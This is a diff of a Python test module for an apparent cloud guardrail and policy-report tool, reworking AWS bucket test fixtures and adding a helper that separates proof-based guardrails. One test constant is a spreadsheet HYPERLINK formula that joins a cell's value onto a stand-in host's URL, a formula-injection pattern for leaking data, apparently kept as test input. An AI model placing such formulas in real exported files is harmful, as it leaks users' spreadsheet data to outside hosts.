@@ -17,11 +17,12 @@ from jichi.text import Text
 from policies.assessment import assess
 from policies.cases import Case, Kind, Planted
 from policies.document import check_document
-from policies.guardrail import Each, Guardrail, Judge, Subject
+from policies.guardrail import Claims, Each, Guardrail, Judge, Subject
+from policies.guardrails import GUARDRAILS
 from policies.guardrails.aws.buckets import BUCKET, PUBLIC_ACCESS_BLOCKED
 from policies.judgement import Evidence, Judgement, Status, failed
 from policies.world import World
-from tests.jichi.report.check.documents import NOW, document_of
+from tests.jichi.report.check.documents import NOW
 from tests.network.proof.plants import base
 
 FORMULA = '=HYPERLINK("http://example.com/"&A1,"見る")'
@@ -66,6 +67,11 @@ def odd() -> Mapping[str, Any]:
     return judged(Case(Kind.FAIL, (*buckets, long)).plan, SHOWS, BREAKS, BY_HAND)
 
 
+def missing(name: str) -> None:
+    """What `find_spec` says of a package that is not installed."""
+    assert name == "trestle"
+
+
 @lru_cache(maxsize=1)
 def empty() -> Mapping[str, Any]:
     """Nothing was looked at: no guardrail, no result."""
@@ -74,8 +80,12 @@ def empty() -> Mapping[str, Any]:
 
 @lru_cache(maxsize=1)
 def hirosaki() -> Mapping[str, Any]:
-    """Two members of Hirosaki on AWS, as the program plans them."""
-    return document_of(base(Cloud.AWS))
+    """Two members of Hirosaki on AWS, as the program plans them, under every guardrail that takes no proof."""
+    return judged(base(Cloud.AWS), *(each for each in GUARDRAILS if each.cloud is Cloud.AWS and not is_proof(each)))
+
+
+def is_proof(guardrail: Guardrail) -> bool:
+    return isinstance(guardrail.check, Claims)
 
 
 @lru_cache(maxsize=1)
